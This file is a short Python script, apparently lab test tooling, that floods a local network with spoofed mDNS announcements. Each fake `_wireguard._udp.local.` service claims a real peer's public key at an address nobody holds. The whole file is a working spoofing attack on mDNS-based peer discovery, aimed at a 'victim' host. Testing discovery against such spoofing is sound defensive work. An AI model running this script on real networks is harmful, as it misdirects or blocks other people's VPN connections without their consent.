"""Announces many `_wireguard._udp.local.` services that all claim one peer's key, at addresses
nobody has (a script, run on a lab host beside the victim: anyone on a LAN can do this).

mdns_spoofer.py INTERFACE_ADDRESS PUBLIC_KEY FIRST_BOGUS_ADDRESS COUNT
"""

from __future__ import annotations

import asyncio
import ipaddress
import socket
import sys

from zeroconf import IPVersion
from zeroconf.asyncio import AsyncServiceInfo, AsyncZeroconf

SERVICE_TYPE = "_wireguard._udp.local."
PORT = 51820


def bogus_service(number: int, public_key: str, address: ipaddress.IPv4Address) -> AsyncServiceInfo:
    return AsyncServiceInfo(
        SERVICE_TYPE,
        f"spoof{number}.{SERVICE_TYPE}",
        addresses=[socket.inet_aton(str(address))],
        port=PORT,
        properties={"txtvers": "1", "pub": public_key},
        server=f"spoof{number}.local.",
    )


async def main() -> None:
    interface, public_key = sys.argv[1], sys.argv[2]
    first, count = ipaddress.IPv4Address(sys.argv[3]), int(sys.argv[4])
    zeroconf = AsyncZeroconf(interfaces=[interface], ip_version=IPVersion.V4Only)
    services = [bogus_service(n, public_key, first + n) for n in range(count)]
    # Probed all at once: one after the other, 30 names take half a minute.
    announcing = await asyncio.gather(*map(zeroconf.async_register_service, services))
    await asyncio.gather(*announcing)
    print(f"announced {count} services for {public_key}", flush=True)
    await asyncio.Event().wait()


if __name__ == "__main__":
    asyncio.run(main())
